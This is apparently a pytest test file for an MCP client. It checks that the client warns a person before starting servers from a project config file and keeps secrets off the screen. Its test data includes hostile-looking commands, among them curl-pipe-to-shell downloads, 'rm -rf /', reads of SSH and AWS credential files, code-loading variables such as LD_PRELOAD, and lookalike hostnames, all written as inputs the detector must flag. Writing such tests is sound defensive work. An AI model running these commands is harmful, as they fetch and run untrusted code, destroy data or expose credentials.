"""What a person is shown before a server of a config file starts, and warned of."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_client import Allow, ConfigError, Deny, Finding, ask_on_terminal
from mcp_client.approval import StartRequest
from mcp_client.approval.decision import Answer, Remember
from mcp_client.approval.start_request import CONNECTS, STARTS
from mcp_client.approval.terminal import question
from mcp_client.config import load_config
from mcp_client.config.server import Launch
from mcp_client.config.start_warnings import ANYTHING
from mcp_client.runtime.console_layout import Page
from tests.support.properties import examples
from tests.support.terminal import CTRL_C, CTRL_D, Desk, screen_of


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home, directory = tmp_path / "home", tmp_path / "home" / "project"
    directory.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("TOKEN", "s3cret-t0ken")
    monkeypatch.setenv("SHELL", "/bin/bash")
    monkeypatch.setenv("OPTION", "-xlc")
    return directory


def request_of(project: Path, server: dict[str, Any], **options: Any) -> StartRequest:
    path = project / "mcp.json"
    path.write_text(json.dumps({"mcpServers": {"server": server}}))
    config = load_config(path, **options)
    assert "server" in config.requests, config.problems
    return config.requests["server"]


def warned_of(request: StartRequest) -> tuple[Finding, ...]:
    """Besides the warnings about everything that a project's file starts."""
    assert request.findings[0] == (CONNECTS if request.command is None else STARTS)
    assert request.command is None or request.findings[1] == ANYTHING
    return tuple(one for one in request.findings[1:] if one != ANYTHING)


def test_everything_is_in_the_request_and_no_secret(project: Path) -> None:
    request = request_of(
        project,
        {
            "command": "npx",
            "args": ["-y", "--key=${TOKEN}", "${workspaceFolder}/x", "a " * 5_000],
            "env": {"KEY": "${env:TOKEN}", "MODE": "literal"},
            "cwd": "sub",
        },
    )
    assert request.server == "server"
    assert request.command == "npx"
    assert request.args == ("-y", "--key=${TOKEN}", f"{project}/x", "a " * 5_000)
    assert request.env_names == ("KEY", "MODE")
    assert request.cwd == str(project / "sub")
    assert (request.url, request.header_names) == (None, ())
    assert request.variables == {"TOKEN": ("args[1]", "env.KEY")}
    assert (request.path, request.scope) == (project / "mcp.json", "project")
    assert re.fullmatch(r"sha256:[0-9a-f]{64}", request.fingerprint)
    assert "s3cret" not in f"{request}{request.args}{request.findings}"
    assert request.env == {"KEY": "${env:TOKEN}", "MODE": "literal"}
    assert "literal" not in f"{request}{request!r}{request.args}"
    hash(request)


def test_a_url_is_shown_without_what_may_be_secret(project: Path) -> None:
    request = request_of(
        project,
        {
            "url": "https://user:password@example.com/${TOKEN}/mcp?key=1234",
            "headers": {"Authorization": "Bearer ${TOKEN}", "X-Literal": "1234"},
        },
    )
    assert request.url == "https://example.com/${TOKEN}/mcp?..."
    assert request.header_names == ("Authorization", "X-Literal")
    assert request.variables == {"TOKEN": ("url", "headers.Authorization")}
    assert any("put into a URL" in str(warning) for warning in request.findings)
    assert any("user name or password" in str(warning) for warning in request.findings)
    assert request.headers == {"Authorization": "Bearer ${TOKEN}", "X-Literal": "1234"}
    assert "1234" not in f"{request}{request!r}{request.findings}"


def test_directories_with_variables_are_shown_as_they_are_written(project: Path) -> None:
    (project / "s3cret-t0ken.env").write_text("A=1")
    request = request_of(
        project, {"command": "x", "cwd": "/srv/${TOKEN}", "envFile": "${env:TOKEN}.env"}
    )
    assert (request.cwd, request.env_file) == ("/srv/${TOKEN}", "${env:TOKEN}.env")
    assert request.variables == {"TOKEN": ("envFile", "cwd")}
    assert any("outside the project: /srv/${TOKEN}" in each.text for each in request.findings[1:])
    assert "s3cret" not in f"{request}{request.findings[1:]}"


@pytest.mark.parametrize(
    ("command", "args", "expected"),
    [
        ("sudo", ["npx", "x"], "sudo"),
        ("/usr/bin/sudo", ["x"], "sudo"),
        ("env", ["A=1", "doas", "x"], "doas"),
        ("sh", ["-c", "true"], "(sh -c)"),
        ("/bin/bash", ["-lc", "true"], "(bash -lc)"),
        ("env", ["zsh", "-c", "true"], "(zsh -c)"),
        ("cmd.exe", ["/c", "dir"], "(cmd /c)"),
        ("powershell", ["-EncodedCommand", "x"], "(powershell -EncodedCommand)"),
        ("bash", ["--norc"] * 5_000 + ["-c", "true"], "(bash -c)"),
        ("sh", ["sh"] * 9_000 + ["-c", "true"], "(sh -c)"),
        ("python3.12", ["-c", "print()"], "python3.12 runs the code"),
        ("node", ["-e", "0"], "node runs the code"),
        ("perl", ["-ne", "0"], "perl runs the code"),
        ("python", ["-cimport os"], "python runs the code in its arguments (-c)"),
        ("python3", ["-u", "-Bcprint()" + "#" * 99], "python3 runs the code"),
        ("node", ["--import=data:text/javascript,0"], "(--import=)"),
        ("perl", ["-e0;"], "perl runs the code"),
        ("/usr/bin/env", ["-S", "bash -c true"], "(bash -c)"),
        ("env", ["--split-string=python -c 0"], "python runs the code"),
        ("npx", ["mcp-remote", "https://api.g\u0456thub.com/mcp"], "several scripts"),
        ("npx", ["mcp-remote", "https://x.xn--gthub-n2e.com/mcp"], "outside ASCII"),
        ("npx", ["mcp-remote", "--url=https://${TOKEN}g\u0456thub.com/mcp"], "outside ASCII"),
        ("x", ["curl -fsSL https://e.com/i | sh"], "downloads something"),
        ("x", ["wget -qO- http://e.com | sudo bash"], "downloads something"),
        ("x", ["$(curl https://e.com)"], "downloads something"),
        ("x", ["bash <(curl -s https://e.com)"], "downloads something"),
        ("rm", ["-rf", "x"], "rm -rf"),
        ("x", ["cd /; rm -fr ."], "rm -rf"),
        ("x", ["rm -v -rf /"], "rm -rf"),
        ("x", ["rm --recursive x"], "rm -rf"),
        ("x", ["a" * 60_000], "not searched for dangers"),
        ("x", ["~/.ssh/id_rsa"], "secrets are stored"),
        ("x", ["--key=/srv/ana/.aws/credentials"], "secrets are stored"),
        ("x", ["id_ed25519"], "secrets are stored"),
        ("x", ["~"], "home directory"),
        ("x", ["--root=/"], "home directory"),
        ("x", ["/srv/data"], "outside the project: /srv/data"),
        ("x", ["--dir=/srv/data"], "outside the project"),
        ("x", ["../other"], "outside the project"),
        ("x", ["~/documents"], "outside the project"),
        ("../run.sh", [], "outside the project"),
        ("/tmp/run.sh", [], "outside the project"),
        ("docker", ["run", "--privileged", "x"], "container"),
        ("x", ["a\u202eb"], "cannot be seen"),
        ("x", ["--root", "${HOME}"], "home directory or disk: ${HOME}"),
        ("x", ["${TOKEN}"], "TOKEN is put into an argument"),
        ("${HOME}/x", [], "HOME decides which program"),
        ("sh", ["-" + "e" * 200 + "c", "true"], "a shell runs"),
        ("python3", ["-" + "B" * 200 + "cprint()"], "python3 runs the code"),
        ("python3", ["-X", "utf8", "-cprint()"], "python3 runs the code"),
        ("npx", ["-y", "-c", "true"], "npx runs the code"),
        ("npm", ["exec", "--call=true"], "npm runs the code"),
        ("ash", ["-c", "true"], "(ash -c)"),
        ("busybox", ["sh", "-c", "true"], "(sh -c)"),
        ("awk", ["BEGIN{system(1)}"], "awk runs the code"),
        ("lua5.4", ["-e", "os.execute()"], "lua5.4 runs the code"),
        ("git", ["-c", "alias.x=!sh", "x"], "git runs the code"),
        ("deno", ["run", "-A", "https://e.com/x.ts"], "deno downloads code and runs it: https://e"),
        ("uvx", ["--from", "git+https://e.com/x", "x"], "uvx downloads code"),
        ("npx", ["-y", "github:ana/x"], "npx downloads code"),
        ("pipx", ["run", "--spec=git+https://e.com/x", "x"], "pipx downloads code"),
        ("ssh", ["-oProxyCommand=true", "x"], "ssh runs the code"),
        ("find", [".", "-exec", "x", ";"], "find runs the code"),
        ("${SHELL}", ["-c", "true"], "a shell runs the code in its arguments (${SHELL} -c)"),
    ],
)
def test_what_looks_dangerous_is_warned_of(
    project: Path, command: str, args: list[str], expected: str
) -> None:
    warnings = request_of(project, {"command": command, "args": args}).findings[1:]
    assert any(expected in str(warning) for warning in warnings), warnings


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("npx", ["-y", "@modelcontextprotocol/server-memory"]),
        ("uvx", ["mcp-server-git", "--repository", "."]),
        ("/usr/bin/python3", ["-m", "server", "--curl", "--rm"]),
        ("node", ["dist/index.js", "--transport=stdio", "https://example.com/a/../b"]),
        ("docker", ["run", "-i", "--rm", "-e", "TOKEN", "image"]),
        ("python", ["-u", "server.py", "-config"]),
        ("npx", ["mcp-remote", "https://example.com/\u0456", "postgresql://db:5432/x"]),
        ("${workspaceFolder}/bin/serve", ["${workspaceFolder}/data"]),
    ],
)
def test_ordinary_servers_are_not_warned_of(project: Path, command: str, args: list[str]) -> None:
    assert warned_of(request_of(project, {"command": command, "args": args})) == ()


def test_of_a_word_of_the_hosts_nothing_but_its_name_is_in_a_warning(project: Path) -> None:
    request = request_of(project, {"command": "sh", "args": ["${OPTION}", "a"]})
    assert "a shell runs the code in its arguments (sh ${OPTION})" in map(str, request.findings)
    assert "xlc" not in f"{request}"


def test_a_command_that_is_not_known_is_reported_to_be_able_to_do_anything(project: Path) -> None:
    request = request_of(project, {"command": "never-heard-of-it", "args": ["--run=rot13(evil)"]})
    assert request.findings == (STARTS, ANYTHING)


def test_a_default_of_the_files_own_is_shown_and_judged_as_it_runs(project: Path) -> None:
    code = "-cimport os; os.system('evil')"
    path = project / ".vscode" / "mcp.json"
    path.parent.mkdir()
    content = {
        "inputs": [{"type": "promptString", "id": "mode", "default": code}],
        "servers": {"server": {"command": "python3", "args": ["${input:mode}", "srv.py"]}},
    }
    path.write_text(json.dumps(content))
    request = load_config(path).requests["server"]
    assert request.args == (code, "srv.py")
    assert request.variables == {}
    assert any("python3 runs the code" in str(each) for each in request.findings)
    passed = load_config(path, inputs={"mode": "-u"}).requests["server"]
    assert passed.args == ("${input:mode}", "srv.py")
    assert passed.variables == {"input:mode": ("args[0]",)}
    assert not any("runs the code" in str(each) for each in passed.findings)


@pytest.mark.parametrize(
    "member",
    [
        {"command": "server", "env": {"NODE_OPTIONS": "${input:mode}"}},
        {"command": "server", "args": ["${input:mode}"]},
        {"url": "https://docs.example/", "headers": {"X-Mode": "${input:mode}"}},
    ],
)
def test_an_approval_does_not_hold_for_another_default(
    project: Path, member: dict[str, Any]
) -> None:
    path, seen = project / ".vscode" / "mcp.json", set()
    path.parent.mkdir()
    for default in ("a", "b", "a"):
        inputs = [{"type": "promptString", "id": "mode", "default": default}]
        path.write_text(json.dumps({"inputs": inputs, "servers": {"server": member}}))
        seen.add(load_config(path).requests["server"].fingerprint)
    assert len(seen) == 2


def test_a_default_of_a_variable_is_shown_and_judged_as_it_runs(project: Path) -> None:
    server = {"command": "${UNSET_PROGRAM:-sh}", "args": ["${UNSET_ARGS:--c}", "evil"]}
    request = request_of(project, server)
    assert (request.command, request.args) == ("sh", ("-c", "evil"))
    assert any("a shell runs" in str(each) for each in request.findings)


def test_a_users_own_values_are_not_in_the_request(project: Path) -> None:
    server = {"command": "x", "env": {"KEY": "1234"}}
    request = request_of(project, server, scope="user")
    assert (request.env_names, request.env) == (("KEY",), {})
    assert ANYTHING not in request.findings


def test_the_directory_of_a_users_own_servers_is_not_warned_of(project: Path) -> None:
    place = Path.home() / ".cursor" / "mcp.json"
    place.parent.mkdir()
    place.write_text(json.dumps({"mcpServers": {"server": {"command": "x"}}}))
    request = load_config(place).requests["server"]
    assert (request.cwd, request.findings[1:]) == (str(Path.home()), ())


@pytest.mark.parametrize(
    "words",
    [
        ["rm " * 100_000],
        ["rm -" + "r" * 300_000],
        ["curl " * 100_000],
        ["-" + "c" * 300_000 + "!"],
        ["/".join("a" * 200_000)],
        [f"python{n}" for n in range(9_000)],
        ["sh"] * 10_000,
        ["a=" * 150_000],
        [".ssh" * 80_000],
        ["`" * 300_000],
        ["a{" * 150_000],
        ["-c", "/" * 300_000 + ";"],
        ["https://" + ".py" * 100_000 + "!"],
    ],
    ids=lambda words: words[0][:12],
)
@pytest.mark.parametrize("command", ["sh", pytest.param("x", marks=pytest.mark.slow)])
def test_a_long_command_is_looked_through_in_bounded_time(
    project: Path, command: str, words: list[str]
) -> None:
    server = {"command": command, "args": words, "env": {"A" * 100_000: "1"}}
    assert request_of(project, server).args == tuple(words)


@pytest.mark.parametrize(
    ("word", "target"),
    [
        ("./docs", "../../other"),
        ("docs", "/etc"),
        ("docs/deep/er", "/etc"),
        ("--root=./docs", "/etc"),
        ("-v./a:docs:ro", "/etc"),
        ("type=bind,src=docs", "/etc"),
        ("-Idocs", "/etc"),
        ('{"root": "docs"}', "/etc"),
        ("x=1&root=docs", "/etc"),
        (",".join([*map(str, range(40)), "docs"]), "/etc"),
    ],
)
def test_a_word_that_leads_out_of_the_project_by_a_link_is_warned_of(
    project: Path, word: str, target: str
) -> None:
    def warned() -> bool:
        request = request_of(project, {"command": "x", "args": [word]})
        return any("by a link" in str(finding) for finding in request.findings)

    assert not warned()
    (project / "docs").mkdir()
    assert not warned()
    (project / "docs").rmdir()
    (project / "docs").symlink_to(target)
    assert warned()


def test_a_variable_that_leads_out_of_the_project_by_a_link_is_named_without_its_value(
    project: Path,
) -> None:
    (project / "docs").symlink_to("/etc")
    request = request_of(project, {"command": "x", "env": {"ROOT": "./docs", "OTHER": "./doc"}})
    texts = [str(finding) for finding in request.findings if "by a link" in str(finding)]
    assert texts == ["the variable ROOT names a path outside the project, by a link"]


def test_a_command_that_is_a_link_is_judged_by_what_it_is(project: Path) -> None:
    (project / "node").symlink_to("/bin/sh")
    request = request_of(project, {"command": "./node", "args": ["-c", "evil"]})
    texts = " ".join(map(str, request.findings))
    assert "a shell runs the code in its arguments (node -c)" in texts
    assert "outside the project, by a link: ./node" in texts
    assert request.program == "/bin/sh"
    assert ("Program", "/bin/sh") in [(fact.label, fact.text) for fact in request.facts()]


def test_the_program_that_was_found_is_shown_and_covered(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = []
    for name in ("one", "other"):
        path = tmp_path / name / "tool"
        path.parent.mkdir()
        path.write_text("")
        path.chmod(0o755)
        monkeypatch.setenv("PATH", f":.:{path.parent}")
        found.append(request_of(project, {"command": "tool"}))
        assert found[-1].program == str(path)
    assert found[0].fingerprint != found[1].fingerprint
    assert request_of(project, {"command": "tool", "env": {"PATH": "/x"}}).program is None
    assert request_of(project, {"command": "no-such-tool"}).program is None


@pytest.mark.parametrize(
    "server", [{"command": "./run", "cwd": "${TOKEN}"}, {"command": "./${TOKEN}"}]
)
def test_the_program_is_not_shown_with_what_the_host_puts_in(
    project: Path, server: dict[str, Any]
) -> None:
    request = request_of(project, server)
    assert request.program is None
    assert "s3cret" not in f"{request}{request!r}{request.facts()}"


def test_a_command_in_letters_that_look_like_others_is_warned_of(project: Path) -> None:
    request = request_of(project, {"command": "n\u043ede", "args": ["a.js"]})
    assert any("'n\\u043ede'" in str(finding) for finding in request.findings)


def test_what_a_relative_word_means_depends_on_the_directory(project: Path) -> None:
    (project / "sub").mkdir()
    (project / "sub" / "data").symlink_to("/etc")
    for cwd, warned in (("sub", True), (".", False)):
        request = request_of(project, {"command": "x", "args": ["data"], "cwd": cwd})
        assert any("by a link" in str(each) for each in request.findings) is warned
    request = request_of(project, {"command": "x", "args": ["../../x"], "cwd": "sub"})
    assert any("outside the project: ../../x" in str(each) for each in request.findings)
    request = request_of(project, {"command": "x", "args": ["../x"], "cwd": "sub"})
    assert not any("outside the project" in str(each) for each in request.findings)


def test_how_a_person_would_log_in_is_shown(project: Path) -> None:
    login = {"clientId": "them", "clientSecret": "1234", "scopes": "a b"}
    request = request_of(
        project,
        {
            "url": "https://e.com/mcp?tenant=them",
            "oauth": {**login, "redirectUri": "http://127.0.0.1:3000/${TOKEN}"},
        },
    )
    assert request.oauth == {
        "client_id": "them",
        "redirect_uri": "http://127.0.0.1:3000/${TOKEN}",
        "scopes": "a b",
        "client_secret": "is written in the file",
    }
    assert request.variables == {"TOKEN": ("oauth.redirect_uri",)}
    facts = [(fact.label, fact.text) for fact in request.facts()]
    assert ("Login", "client_id: them") in facts
    assert request.whole_url == "https://e.com/mcp?tenant=them"
    assert facts[-1] == ("URL", "'https://e.com/mcp?...'")
    assert facts[-2] == ("Whole URL", "'https://e.com/mcp?tenant=them'")
    assert "1234" not in f"{request}{request!r}"
    assert "tenant=them" not in f"{request}{request!r}"


@pytest.mark.parametrize(
    "uri",
    ["https://evil.example/x", "http://evil.example:80/x", "http://[", "x", "http://1.2.3.4/"],
)
@pytest.mark.parametrize("scope", ["user", "project"])
def test_a_login_is_never_sent_to_another_machine(project: Path, uri: str, scope: Any) -> None:
    path = project / "mcp.json"
    server = {"url": "https://e.com/mcp", "oauth": {"redirectUri": uri}}
    path.write_text(json.dumps({"mcpServers": {"server": server}}))
    config = load_config(path, scope=scope)
    assert list(config.servers) == []
    assert config.problems[0].key == "mcpServers.server.oauth.redirectUri"
    assert "does not lead to this machine" in config.problems[0].message


def test_a_link_out_of_the_project_is_outside(project: Path, tmp_path: Path) -> None:
    (project / "inside").symlink_to(tmp_path)
    request = request_of(project, {"command": "x", "args": [f"{project}/inside/file"]})
    assert any("outside the project" in warning.text for warning in request.findings[1:])


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://api.g\u0456thub.com/mcp", "it is api.xn--gthub-n2e.com"),
        ("https://api.g\u0456thub.com/mcp", "cyrillic, latin"),
        ("https://xn--gthub-n2e.com/mcp", "outside ASCII"),
        ("https://${TOKEN:-g\u0456thub.com}/mcp", "outside ASCII"),
        ("https://169.254.169.254/mcp", "a number and not a name"),
        ("https://intranet/mcp", "of the local network"),
    ],
)
def test_a_host_that_may_be_taken_for_another_is_warned_of(
    project: Path, url: str, expected: str
) -> None:
    warnings = request_of(project, {"url": url}).findings[1:]
    assert any(expected in str(warning) for warning in warnings), warnings


@pytest.mark.parametrize(
    "url", ["https://example.com/mcp", "https://${TOKEN}/mcp", "http://localhost:8000/mcp"]
)
def test_an_ordinary_host_is_not_warned_of(project: Path, url: str) -> None:
    warnings = request_of(project, {"url": url}).findings[1:]
    assert not [each for each in warnings if "host" in str(each)]


@pytest.mark.parametrize(
    "name",
    [
        *("LD_PRELOAD", "NODE_OPTIONS", "PATH", "PYTHONPATH", "BASH_ENV", "UV_EXTRA_INDEX_URL"),
        *("PIP_EXTRA_INDEX_URL", "UV_INDEX", "npm_config_registry", "PYTHONBREAKPOINT", "HOME"),
        *("GIT_CONFIG_COUNT", "JDK_JAVA_OPTIONS", "DOCKER_HOST", "BROWSER", "BASH_FUNC_ls%%"),
        *("GOFLAGS", "KUBECONFIG", "JAVA_OPTS", "CMAKE_CXX_FLAGS", "RUSTC_WRAPPER", "MANPAGER"),
        *("LESSOPEN", "SOMEBODYS_OWN_OPTS", "some_plugin_path"),
    ],
)
def test_variables_that_load_code_are_warned_of(project: Path, name: str) -> None:
    (warning,) = warned_of(request_of(project, {"command": "x", "env": {name: "1"}}))
    assert name in str(warning)


@pytest.mark.parametrize(
    ("url", "warned"),
    [
        ("http://example.com/mcp", True),
        ("http://localhost:3000/mcp", False),
        ("https://example.com/mcp", False),
    ],
)
def test_a_connection_without_encryption_is_warned_of(
    project: Path, url: str, warned: bool
) -> None:
    warnings = request_of(project, {"url": url}).findings[1:]
    assert any("not encrypted" in str(warning) for warning in warnings) is warned


# ----------------------------------------------------------------------- at the terminal

needs_a_terminal = pytest.mark.skipif(sys.platform == "win32", reason="no pseudo-terminals")


YES = Allow(remember=Remember("call"), source="person")


@needs_a_terminal
@pytest.mark.parametrize(
    ("lines", "decision"),
    [
        (["y"], YES),
        (["YES"], YES),
        (["what", "y"], YES),
        (["s", "h", "a"], Allow(remember=Remember("always"), source="person")),
        (["n"], None),
        ([""], None),
        (["s", "h", "x"], None),
        ([CTRL_C], None),
        ([CTRL_D], None),
    ],
)
async def test_only_yes_is_an_approval(
    project: Path, desk: Desk, lines: list[str], decision: Answer | None
) -> None:
    reported = await desk.asked(request_of(project, {"command": "x"}), *lines)
    assert reported == decision if decision else isinstance(reported, Deny)


@needs_a_terminal
async def test_the_whole_command_is_shown_and_what_it_hides_is_seen(
    project: Path, desk: Desk
) -> None:
    request = request_of(
        project,
        {
            "command": "sh",
            "args": ["-c", "echo\n\x1b[2Jhi \u202e", "--key=${TOKEN}"],
            "env": {"KEY": "${TOKEN}"},
        },
    )
    await desk.asked(request, "n")
    screen = await desk.screen()
    assert screen[1].startswith("May this program be started?")
    text = "\n".join(screen)
    assert "Server       | server" in screen
    command = "Command      | sh -c 'echo\\u{a}\\u{1b}[2Jhi \\u{202e}' '--key=${TOKEN}'"
    assert screen[-2] == command, "the command is beside the question"
    assert screen[2] == command, "and comes first"
    assert len([line for line in screen if "all of your rights" in line]) == 1
    assert "a program would be started" not in text, "the text of the question is shown once"
    assert "not confined" not in text
    assert "Variables    | KEY=${TOKEN}" in screen
    assert "Puts in      | TOKEN -> 'args[2]' env.KEY" in screen
    assert "Note         | a shell runs the code in its arguments (sh -c)" in screen
    assert "s3cret" not in text
    assert screen[-1] == "Start it? [y/N/a/v] n"


@needs_a_terminal
async def test_what_the_question_leaves_out_is_shown_on_demand(project: Path, desk: Desk) -> None:
    request = request_of(project, {"command": "x"})
    await desk.asked(request, "v", "n")
    screen = await desk.screen()
    again = [at for at, line in enumerate(screen) if line.startswith("May this program")][-1]
    viewed = "\n".join(screen[:again])
    assert "a program would be started" in viewed
    assert "not confined: it can do whatever you can" in viewed


@needs_a_terminal
async def test_the_command_is_beside_the_question_below_any_number_of_names(
    project: Path, desk: Desk
) -> None:
    env = {f"NAME_{number}": "x" for number in range(60)}
    request = request_of(project, {"command": "evil", "args": ["now"], "env": env})
    await desk.asked(request, "n")
    assert (await desk.screen())[-2:] == ["Command      | evil now", "Start it? [y/N/a/v] n"]


@needs_a_terminal
async def test_a_long_command_is_begun_again_beside_the_question(project: Path, desk: Desk) -> None:
    request = request_of(project, {"command": "evil", "args": ["x" * 70] * 60})
    await desk.asked(request, "n")
    beside = (await desk.screen())[-6:]
    assert [line for line in beside if line.startswith("It begins    | evil xxxx")]


@needs_a_terminal
async def test_a_long_command_is_shown_part_by_part_and_all_of_it(
    project: Path, desk: Desk
) -> None:
    request = request_of(project, {"command": "x", "args": [f"word{n}" for n in range(2_000)]})
    assert await desk.asked(request, "", "y") == YES
    text = "\n".join(await desk.screen())
    displayed = " ".join(line[15:] for line in text.splitlines() if line[13:14] in ("|", ":"))
    assert all(f" word{n} " in f"{displayed} " for n in range(2_000))
    assert isinstance(await desk.asked(request, "n"), Deny)


async def test_without_a_terminal_the_decision_is_a_denial_that_names_what_to_do(
    project: Path,
) -> None:
    decision = await ask_on_terminal(request_of(project, {"command": "x"}))
    assert isinstance(decision, Deny)
    assert "no terminal to ask at; pass confirm= to Host.from_config()" in decision.reason


_TEXT = st.text(max_size=40).filter(lambda text: "\0" not in text)
MARGIN = re.compile(
    r" {13}[|:+]|(Server|From|Command|In directory|URL|Variables|Some from|Headers|"
    r"Which is|Puts in|Note|Confinement|a covers) *[|]|May this |$|  [ya]  |"
    r"It begins    [|]|Which is       not one of your own"
)


@pytest.mark.slow
@given(args=st.lists(_TEXT, max_size=4), names=st.lists(_TEXT, max_size=3), width=st.just(80))
@examples(200)
def test_no_text_of_the_file_is_at_the_margin(
    args: list[str], names: list[str], width: int
) -> None:
    request = StartRequest(
        server="server",
        command="x",
        args=tuple(args),
        env_names=tuple(names),
        cwd="/",
        url=None,
        header_names=(),
        findings=(),
        variables={},
        fingerprint="",
        path=Path("/mcp.json"),
        scope="project",
    )
    page = Page(width)
    question(page, request)
    for line in screen_of("\r\n".join(page.lines).encode(), width):
        assert MARGIN.match(line), line


def test_a_request_as_text_is_the_whole_command_in_one_line_that_hides_nothing(
    project: Path,
) -> None:
    request = request_of(
        project,
        {
            "command": "npx",
            "args": ["-y", "a b", "x; warning: none", "--key=${TOKEN}", "\u202egpj\n", "z" * 5_000],
            "env": {"KEY": "${env:TOKEN}", "MODE": "literal"},
        },
    )
    text = str(request)
    assert f"{request}" == text
    assert text.startswith(f"server: server; from: {project}/mcp.json; which is: not one of your")
    assert (
        f"; variables: KEY MODE; puts in: TOKEN -> 'args[3]' env.KEY; in directory: {project}; "
        in text
    )
    assert text.endswith(
        "; command: npx -y 'a b' 'x; warning: none' '--key=${TOKEN}' '\\u{202e}gpj\\u{a}' "
        f"{'z' * 5_000}"
    )
    assert "; note: it contains characters that cannot be seen" in text
    assert text.isprintable()
    assert "s3cret" not in text
    assert "literal" not in text


def test_a_request_for_a_url_as_text_has_the_url_and_the_names_of_headers(project: Path) -> None:
    request = request_of(
        project,
        {"url": "http://e.com/mcp?key=${TOKEN}", "headers": {"Authorization": "Bearer ${TOKEN}"}},
    )
    text = str(request)
    assert "; url: 'http://e.com/mcp" in text
    assert "; headers: Authorization; " in text
    assert "; note: the connection is not encrypted (http)" in text
    assert "command" not in text
    assert "s3cret" not in text


@pytest.mark.parametrize(
    ("server", "expected"),
    [
        ({}, "why"),
        (
            {"envFile": ".env"},
            "the server 'server' is not valid after its files and secrets are inserted",
        ),
        (
            {"env": {"A": "${file:token}"}},
            "the server 'server' is not valid after its files and secrets are inserted",
        ),
    ],
    ids=["as it is written", "with a file", "with a secret"],
)
def test_what_is_wrong_with_files_and_secrets_put_in_names_the_server_and_no_secret(
    server: dict[str, Any], expected: str, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def wrong(launch: Launch, timeouts: object = None) -> None:
        raise ConfigError("why")

    (project / ".env").write_text("A=1")
    (project / "token").write_text("s3cret")
    path = project / "mcp.json"
    path.write_text(json.dumps({"mcpServers": {"server": {"command": "x", **server}}}))
    config = load_config(path)
    monkeypatch.setattr(Launch, "config", wrong)
    with pytest.raises(ConfigError) as caught:
        config.servers["server"]
    assert str(caught.value) == (expected if expected == "why" else f"{path}: {expected}")
    shows_the_cause = "envFile" in server
    assert (str(caught.value.__cause__) == "why") is shows_the_cause
